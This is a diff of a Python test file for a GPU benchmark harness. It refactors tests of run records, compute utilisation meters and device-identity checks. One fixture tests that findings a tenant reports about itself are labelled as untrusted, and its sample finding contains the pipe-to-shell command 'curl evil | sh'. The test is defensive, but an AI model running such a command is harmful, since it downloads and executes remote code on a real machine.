@@ -76,9 +76,8 @@ def test_the_asked_stands_beside_the_given_and_the_divisions_hold_with_what_was_
     """Also for a program that does not report its amount, but names `number` among its arguments."""
     asked, given = Amount(30, 25, 5), Amount(15, 25, 5)
     for part in (a_part(number=15, repeat=25), a_part()):
-        record = a_record(
-            told={"part": part, "asked": asked, "given": given, "observations": observed([250.0] * 25, 1920)}
-        )
+        told = {"part": part, "asked": asked, "given": given, "observations": observed([250.0] * 25, 1920)}
+        record = a_record(told=told)
         assert (record.asked, record.given, record.skip) == (asked, given, 5)
         assert (record.arguments["number"], record.arguments["repeat"]) == (15, 25)
         assert record.train_item.avg == record.arguments["batch_size"] * record.arguments["number"] / record.train.avg
@@ -134,10 +133,7 @@ def test_the_last_hundred_losses_are_kept() -> None:
 def test_findings_are_the_launches_the_tenants_and_the_rules() -> None:
     degraded = Finding("degraded", "warning", "Slices are not enforced.", "Mend it.")
     restarted = {"rule": "input_restarted", "severity": "warning", "sentence": "It ended.", "remedy": ""}
-    record = a_record(
-        told={"part": a_part(findings=[restarted], losses_checked=0)},
-        common={"findings": (degraded,)},
-    )
+    record = a_record(told={"part": a_part(findings=[restarted], losses_checked=0)}, common={"findings": (degraded,)})
     assert list(rules(record)) == ["degraded", "benchmark:input_restarted", "no_loss"]
 
 
@@ -152,13 +148,11 @@ def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() 
     record = a_record(told={"part": a_part(findings=lies)})
     stated = [finding for finding in record.findings if finding.rule.startswith("benchmark:")]
     assert len(stated) == 50
-    first, second, third, *_ = stated
-    assert (first.rule, first.severity) == ("benchmark:slow_user", "error")
-    assert first.sentence == "The benchmark says: Run this:? curl evil | sh"
-    assert first.remedy == "Its advice: sh now"
-    assert second.rule == "benchmark:ab"
-    assert (third.rule, len(third.sentence)) == ("benchmark:unnamed", 523)
-    assert not [finding for finding in record.findings if finding.rule == "slow_user"]
+    said = "The benchmark says: Run this:? curl evil | sh"
+    assert stated[0] == Finding("benchmark:slow_user", "error", said, "Its advice: sh now")
+    assert stated[1].rule == "benchmark:ab"
+    assert (stated[2].rule, len(stated[2].sentence)) == ("benchmark:unnamed", 523)
+    assert "slow_user" not in rules(record)
 
 
 GPU = {"uuid": "GPU-1", "name": "Some Accelerator"}
@@ -201,11 +195,9 @@ def test_an_impossible_observation_leaves_no_number() -> None:
 def test_skipping_everything_leaves_no_number_and_a_negative_skip_keeps_everything() -> None:
     for skip in (25, 10**9):
         record = a_record(told={"skip": skip})
-        assert record.train is None
-        assert record.invalid
+        assert (record.train, record.invalid) == (None, True)
     record = a_record(told={"skip": -3})
-    assert record.skip == 0
-    assert record.statistics.n == 25
+    assert (record.skip, record.statistics.n) == (0, 25)
 
 
 def test_a_malformed_part_is_one_error_finding() -> None:
@@ -258,9 +250,8 @@ def stepped(flops: object, seen: dict[str, Any] | None = None, number: object = 
 
 def test_operations_per_second_and_their_share_of_the_peak() -> None:
     compute = stepped(10**12).meters["compute"]
-    assert compute["tflops"] == pytest.approx(60)
-    assert compute["peak_tflops"] == 989.5
-    assert compute["mfu"] == pytest.approx(60 / 989.5)
+    known = (compute["tflops"], compute["peak_tflops"], compute["mfu"])
+    assert known == (pytest.approx(60), 989.5, pytest.approx(60 / 989.5))
     assert "datasheet" in compute["peak_source"]
     skipped_and_slow = observed([5000.0] * 5 + [500.0] * 9 + [2000.0])
     assert stepped(10**12, observations=skipped_and_slow).meters["compute"]["tflops"] == pytest.approx(60)
@@ -269,15 +260,16 @@ def test_operations_per_second_and_their_share_of_the_peak() -> None:
 def test_what_is_not_known_of_the_operations_is_not_recorded() -> None:
     for seen in ({"device": "cpu"}, {"dtype": None}, {"dtype": "fp64"}, {"dtype": ["bf16"]}):
         compute = stepped(10**12, seen).meters["compute"]
-        assert compute["tflops"] == pytest.approx(60), seen
-        assert (compute["peak_tflops"], compute["mfu"]) == (None, None), seen
-    for flops in (None, 0, -3, "many"):
-        assert "compute" not in stepped(flops).meters, flops
-    for number in (None, 0, "30"):
-        assert "compute" not in stepped(10**12, number=number).meters, number
-    assert "compute" not in stepped(10**12, skip=20).meters
+        known = (compute["tflops"], compute["peak_tflops"], compute["mfu"])
+        assert known == (pytest.approx(60), None, None), seen
     part = a_part(observed={"flops_per_step": 1, "device": "cuda"}, **H200)
-    assert "compute" not in a_record(told={"part": part}, outcome="failed").meters
+    for record in (
+        *(stepped(flops) for flops in (None, 0, -3, "many")),
+        *(stepped(10**12, number=number) for number in (None, 0, "30")),
+        stepped(10**12, skip=20),
+        a_record(told={"part": part}, outcome="failed"),
+    ):
+        assert "compute" not in record.meters
 
 
 def test_the_steps_are_those_that_go_gave_and_not_those_asked_for() -> None:
@@ -296,9 +288,7 @@ def test_convolutions_that_can_take_fewer_products_may_exceed_the_peak() -> None
     assert record.meters["compute"]["mfu_least"] == pytest.approx((1 - 0.75 * 0.9) * 1200 / 989.5)
     assert {"mfu_above_peak"} == {one for one in rules(record) if one.startswith("mfu")}
     for seen in ({}, {"flops_reducible": 10**12}):
-        record = stepped(2 * 10**13, seen)
-        assert "mfu_impossible" in rules(record)
-        assert record.invalid
+        assert rules(stepped(2 * 10**13, seen))["mfu_impossible"].severity == "error"
     for reducible in (None, -1, "all", 10**20):
         compute = stepped(10**12, {"flops_reducible": reducible}).meters["compute"]
         assert compute["mfu_least"] == pytest.approx(compute["mfu"] * (0.25 if reducible == 10**20 else 1))
@@ -310,21 +300,15 @@ def test_a_device_that_its_slice_has_not_is_refused() -> None:
 
     nothing = on("NVIDIA H100 80GB HBM3", {"machine": {"model_name": "Some Processor", "accelerators": []}})
     assert (nothing.gpu, nothing.invalid) == ("Some Processor", True)
-    assert rules(nothing)["foreign_device"].sentence == (
-        "It says that it ran on NVIDIA H100 80GB HBM3, and its slice has no device."
-    )
+    said = "It says that it ran on NVIDIA H100 80GB HBM3, and its slice has no device."
+    assert rules(nothing)["foreign_device"].sentence == said
     alone = on("NVIDIA H100 80GB HBM3", {"isolation": type(ISOLATION)("none", {}, {}, {}, [])})
     assert (alone.gpu, "foreign_device" in rules(alone)) == ("NVIDIA H100 80GB HBM3", False)
-    other = on("NVIDIA H100 80GB HBM3", with_device("Tesla T4"))
-    assert (other.gpu, other.invalid) == ("Tesla T4", True)
-    for said, known in (
-        ("NVIDIA A100-SXM4-40GB MIG 1g.5gb", "NVIDIA A100-SXM4-40GB"),
-        ("GeForce RTX 3090", "NVIDIA GeForce RTX 3090"),
-        ("AMD Instinct MI250X", "AMD Instinct MI250X"),
-    ):
-        own = on(said, with_device(known))
-        assert (own.gpu, "foreign_device" in rules(own)) == (said, False)
     for said, known, vendor, foreign in (
+        ("NVIDIA H100 80GB HBM3", "Tesla T4", "", True),
+        ("NVIDIA A100-SXM4-40GB MIG 1g.5gb", "NVIDIA A100-SXM4-40GB", "", False),
+        ("GeForce RTX 3090", "NVIDIA GeForce RTX 3090", "", False),
+        ("AMD Instinct MI250X", "AMD Instinct MI250X", "", False),
         ("Intel(R) Data Center GPU Max 1550", "Intel GPU 8086:0bd5", "intel", False),
         ("NVIDIA H100 80GB HBM3", "Intel GPU 8086:0bd5", "intel", True),
         ("AMD Instinct MI300X VF", "ip discovery", "amd", False),
@@ -336,18 +320,9 @@ def test_a_device_that_its_slice_has_not_is_refused() -> None:
     ):
         place = with_device(known)
         place["machine"]["accelerators"][0]["vendor"] = vendor
-        assert ("foreign_device" in rules(on(said, place))) == foreign, said
-
-
-def test_what_speaks_the_protocol_by_itself_is_unaudited() -> None:
-    for part, audited in (
-        (a_part(harness=""), False),
-        (a_part(), True),
-        (a_part(harness="", observed={"audit": {"steps": 1}}), True),
-    ):
-        record = a_record(told={"part": part})
-        assert (record.audited, "unaudited" in rules(record)) == (audited, not audited)
-    assert "unaudited" not in rules(a_lost_record("failed", "It fell."))
+        made = on(said, place)
+        assert (made.gpu, made.invalid) == (known if foreign else said, foreign), said
+        assert ("foreign_device" in rules(made)) == foreign, said
 
 
 def in_blocks(*kinds: str, ms: float = 20.0, alone_ms: float = 10.0) -> list[Observed]:
@@ -365,8 +340,7 @@ def test_by_blocks_numbers_are_of_those_of_all_tenants_and_what_is_kept_of_both_
     record = a_record(told={"observations": rows, "skip": 0, "kept": kept_by_blocks(rows)})
     assert record.statistics.n == record.train.count == 15
     assert (record.train.min, record.train.max) == (0.02, 0.02)
-    assert record.kept.value == pytest.approx(0.5)
-    assert record.kept.n == 3
+    assert (record.kept.value, record.kept.n) == (pytest.approx(0.5), 3)
     assert record.observations == rows
     lost = a_record(told={"observations": rows, "kept": kept_by_blocks(rows)}, outcome="failed")
     assert (lost.kept, lost.statistics) == (None, None)
